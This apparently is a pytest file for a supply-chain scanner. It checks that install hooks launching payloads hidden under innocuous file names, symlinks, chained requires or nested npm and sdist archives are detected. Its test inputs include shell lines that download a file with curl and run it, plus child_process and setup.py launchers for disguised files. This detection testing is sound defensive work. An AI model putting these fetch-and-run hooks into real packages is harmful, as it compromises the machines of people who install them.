"""What a file is called, and where it lies, hides nothing."""

import pytest

from archives.making import member, tgz
from evasion.hiding import JAVASCRIPT, PYTHON, assert_caught, at_install, in_setup, judged
from simulator import npm_tarball, sdist

DEEP = "a/b/c/d/e/" * 15
NAMES = [
    "logo.png",
    "README.md",
    "data.json",
    "LICENSE",
    "setup",
    "x.mjs",
    "x.cjs",
    "x.mts",
    ".hidden",
    "x.txt",
    "x.JS",
]


@pytest.mark.parametrize("name", [*NAMES, DEEP + "x.dat", "with space.png", "ünïcode.dat"])
def test_a_hook_starts_it(name):
    assert_caught(at_install({name: JAVASCRIPT}, f'node "{name}"'))
    assert_caught(at_install({name: JAVASCRIPT}, f"node './{name}' --quiet"))


@pytest.mark.parametrize("name", [name for name in NAMES if not name.endswith((".json", ".mjs", ".mts"))])
def test_a_started_file_requires_it(name):
    assert_caught(at_install({name: JAVASCRIPT, "setup.js": f"require('./{name}');\n"}))


@pytest.mark.parametrize(
    "start",
    [
        "require('child_process').fork(__dirname + '/blob.bin');",
        "require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'blob.bin')], {detached: true});",
        "new (require('worker_threads').Worker)(require('path').resolve(__dirname, 'blob.bin'));",
        "require('child_process').execSync(`node ${__dirname}/blob.bin`);",
        "const c = require('child_process'); const f = 'blob.bin'; c.exec('node ' + f);",
    ],
)
def test_a_started_file_starts_it_as_a_program(start):
    assert_caught(at_install({"blob.bin": JAVASCRIPT, "setup.js": start}))


def test_a_chain_of_files_is_followed():
    files = {
        "setup.js": "require('./a.png')",
        "a.png": "require('./b.dat')",
        "b.dat": "require('./c')",
        "c": JAVASCRIPT,
    }
    assert_caught(at_install(files))


@pytest.mark.parametrize("command", ["sh ./run", "bash run", "./run", "sh -c './run'", "source run"])
def test_a_shell_script_without_a_name_for_one(command):
    assert_caught(
        at_install({"run": "true\ncurl -so /tmp/x https://files.replica.invalid/x \\\n  && sh /tmp/x\n"}, command)
    )


def test_lines_of_a_shell_script_are_read_together():
    script = "#!/bin/sh\n# fetch\ncurl -so /tmp/x https://files.replica.invalid/x\n\nchmod +x /tmp/x\n/tmp/x &\n"
    assert_caught(at_install({"install.sh": script}, "sh install.sh"))


@pytest.mark.parametrize("name", ["notes.txt", "logo.png", "data", "x.pyw"])
def test_setup_py_starts_it(name):
    start = (
        f"import subprocess, sys\nsubprocess.Popen([sys.executable, '{name}'])\nfrom setuptools import setup\nsetup()\n"
    )
    assert_caught(in_setup(start, **{name: PYTHON}), "replica-1.0.0.tar.gz")


@pytest.mark.parametrize("flag", [b"1", b"2"], ids=["hard", "symbolic"])
def test_links_are_followed_to_what_they_name(flag):
    manifest = b'{"name":"replica","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}'
    target = b"package/real.dat" if flag == b"1" else b"real.dat"
    data = tgz(
        member(b"package/package.json", manifest),
        member(b"package/real.dat", JAVASCRIPT.encode()),
        member(b"package/setup.js", flag=flag, link=target),
    )
    assert_caught(data)


@pytest.mark.parametrize(
    ("command", "start"),
    [
        ("npm install ./vendor/p.tgz", ""),
        ("node setup.js", "require('child_process').execSync('npm i ./vendor/p.tgz');"),
        (
            "node setup.js",
            "require('child_process').exec('tar xf ' + __dirname + '/vendor/p.tgz && node package/x.js');",
        ),
    ],
)
def test_an_archive_inside_the_archive(command, start):
    inner = npm_tarball({"x.js": JAVASCRIPT}, {"name": "p", "version": "1.0.0", "scripts": {"install": "node x.js"}})
    assert_caught(at_install({"vendor/p.tgz": inner, **({"setup.js": start} if start else {})}, command))


def test_an_sdist_inside_an_sdist():
    inner = sdist("inner", "1.0.0", {"setup.py": PYTHON})
    start = "import os\nos.system('pip install ./inner-1.0.0.tar.gz')\nfrom setuptools import setup\nsetup()\n"
    assert_caught(in_setup(start, **{"inner-1.0.0.tar.gz": inner}), "replica-1.0.0.tar.gz")


@pytest.mark.parametrize(
    "files",
    [
        {"index.css": "a { color: red }\n@media (x) { b { c: d } }\n"},
        {"index.js": "module.exports = require('./data.txt');\n", "data.txt": "Lorem ipsum: dolor sit amet, etc.\n"},
        {
            "index.js": "const fs = require('fs'); require('vm').runInNewContext('1'); fs.readFileSync('a.md');",
            "a.md": "# A\n",
        },
        {
            "index.js": "const c = require('child_process'); exports.a = () => c.exec('ls', { page: '500.html' });\n",
            "500.html": "<!doctype html><title>a: b, c</title><script>fetch('/x').then(eval)</script>\n<p>It's gone</p>",
        },
    ],
)
def test_ordinary_files_of_other_kinds_are_no_gap(files):
    main = next(iter(files))
    decision, _, gaps = judged(npm_tarball(files, {"name": "replica", "version": "1.0.0", "main": main}), "r-1.0.0.tgz")
    assert (decision, gaps) == ("allow", ())
